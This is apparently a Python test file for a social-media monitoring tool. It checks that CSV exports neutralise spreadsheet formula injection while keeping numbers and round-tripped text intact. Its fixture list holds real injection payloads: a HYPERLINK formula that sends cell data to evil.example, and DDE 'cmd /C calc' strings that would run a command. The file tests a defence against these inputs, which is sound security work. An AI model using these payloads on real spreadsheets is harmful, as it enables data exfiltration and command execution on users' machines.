"""CSV formula injection: a post starting with = + - @ (or a tab, a CR) opened from an actorwatch CSV in a spreadsheet
is text, not a formula; numbers stay numbers, and actorwatch's readers get the text back as collected."""

from __future__ import annotations

import csv
import io
from collections.abc import Callable
from datetime import UTC, datetime
from pathlib import Path

import pandas as pd
from click.testing import CliRunner
from hypothesis import given
from hypothesis import strategies as st

from analysis.core.labels import read_labels
from analysis.nlp.labels_io import export_sample, import_labels
from analysis.reports.export import read_bundle
from collectors.models import Record
from collectors.spreadsheet import TRIGGERS, escape_cell, unescape_cell, unescape_frame
from collectors.store import Store
from dashboard.charts.embed import csv_bytes
from dashboard.cli import cli

TRACKER = "iqiyi-nadou"
PAYLOADS = ['=HYPERLINK("http://evil.example/?"&A1,"点此")', "+1+cmd|' /C calc'!A0", "-2+3 爱奇艺", "@ SUM(1+1)",
            "\t=1+1", "\r=1+1", "'=already quoted", "a bare\rcarriage return"]


def _spreadsheet_formula(cell: str) -> bool:
    """A spreadsheet would evaluate the cell: it starts with a trigger and is not a plain number."""
    if not cell or cell[0] not in TRIGGERS:
        return False
    try:
        float(cell)
    except ValueError:
        return True
    return cell != cell.strip()


@given(st.text(alphabet=st.sampled_from(["'", "=", "-", "+", "@", "\t", "1", ".", "a", "爱"]), max_size=6))
def test_escape_is_reversible_and_never_leaves_a_formula(text: str) -> None:
    escaped = escape_cell(text)
    assert unescape_cell(escaped) == text
    if escaped != text:
        assert escaped.startswith("'")
    assert not _spreadsheet_formula(escaped)


def test_numbers_are_not_quoted() -> None:
    assert [escape_cell(v) for v in ("-0.25", "+3", "-1e-05", -0.5)] == ["-0.25", "+3", "-1e-05", -0.5]


def test_chart_csv_quotes_formula_text_and_keeps_negative_numbers() -> None:
    frame = pd.DataFrame({"keyword": ["=cmd|' /C calc'!A0", "AI\r演员"], "net": [-0.25, 0.5]})
    text = csv_bytes(frame).decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(text)))
    assert rows[1] == ["'=cmd|' /C calc'!A0", "-0.25"]
    back = unescape_frame(pd.read_csv(io.StringIO(text)))
    pd.testing.assert_frame_equal(back, frame)


def _records(make_record: Callable[..., Record]) -> list[Record]:
    return [make_record(id=f"p{k}", text=payload, trackers=[TRACKER], author_id="1999", author_verified=True,
                        author_verified_type=3, author_name="@官方" if k == 0 else "某官方账号",
                        published_at=datetime(2026, 4, 20, k, tzinfo=UTC)) for k, payload in enumerate(PAYLOADS)]


def test_records_export_csv_opens_as_text_and_imports_back_unchanged(tmp_path: Path, data_dir: Path,
                                                                     make_record: Callable[..., Record]) -> None:
    Store(data_dir).add_records(_records(make_record))
    bundle = tmp_path / "b"
    result = CliRunner().invoke(cli, ["export", "--tracker", TRACKER, "--format", "csv", "--out", str(bundle)])
    assert result.exit_code == 0, result.output
    with (bundle / "records.csv").open(encoding="utf-8", newline="") as fh:
        rows = list(csv.DictReader(fh))
    assert len(rows) == len(PAYLOADS)
    for row in rows:
        assert not any(_spreadsheet_formula(cell) for cell in row.values() if cell), row
    manifest, frame = read_bundle(bundle)
    assert "prefixed with '" in manifest["spreadsheet_safety"]
    assert sorted(frame["text"]) == sorted(PAYLOADS)
    assert "@官方" in set(frame["author_name"])
    fresh = tmp_path / "fresh"
    result = CliRunner().invoke(cli, ["--data-dir", str(fresh), "import-bundle", str(bundle)])
    assert result.exit_code == 0, result.output
    with Store(fresh).connect() as con:
        assert sorted(r[0] for r in con.execute("SELECT text FROM records").fetchall()) == sorted(PAYLOADS)
    # the native CSV importer reads an export's records.csv too
    native = tmp_path / "native"
    result = CliRunner().invoke(cli, ["--data-dir", str(native), "import", str(bundle / "records.csv")])
    assert result.exit_code == 0, result.output
    with Store(native).connect() as con:
        assert sorted(r[0] for r in con.execute("SELECT text FROM records").fetchall()) == sorted(PAYLOADS)


def test_parquet_export_keeps_the_text_as_collected(tmp_path: Path, data_dir: Path,
                                                    make_record: Callable[..., Record]) -> None:
    Store(data_dir).add_records(_records(make_record))
    bundle = tmp_path / "b"
    CliRunner().invoke(cli, ["export", "--tracker", TRACKER, "--format", "parquet", "--out", str(bundle)],
                       catch_exceptions=False)
    manifest, frame = read_bundle(bundle)
    assert sorted(frame["text"]) == sorted(PAYLOADS) and manifest["spreadsheet_safety"] is None


def test_labels_export_opens_as_text_and_import_matches_the_stored_text(tmp_path: Path,
                                                                         make_record: Callable[..., Record]) -> None:
    store = Store()
    store.add_records(_records(make_record))
    out = tmp_path / "sample.csv"
    assert export_sample(store, TRACKER, len(PAYLOADS), out) == len(PAYLOADS)
    with out.open(encoding="utf-8-sig", newline="") as fh:
        rows = list(csv.DictReader(fh))
    for row in rows:
        assert not any(_spreadsheet_formula(cell) for cell in row.values() if cell), row
        row["label"] = "0"
    with out.open("w", encoding="utf-8", newline="") as fh:
        writer = csv.DictWriter(fh, fieldnames=list(rows[0]))
        writer.writeheader()
        writer.writerows(rows)
    result = import_labels(store, out, TRACKER, annotator="alice")
    assert (result.written, result.errors) == (len(PAYLOADS), [])
    with store.connect() as con:
        assert sorted(read_labels(con, TRACKER)["text"]) == sorted(PAYLOADS)
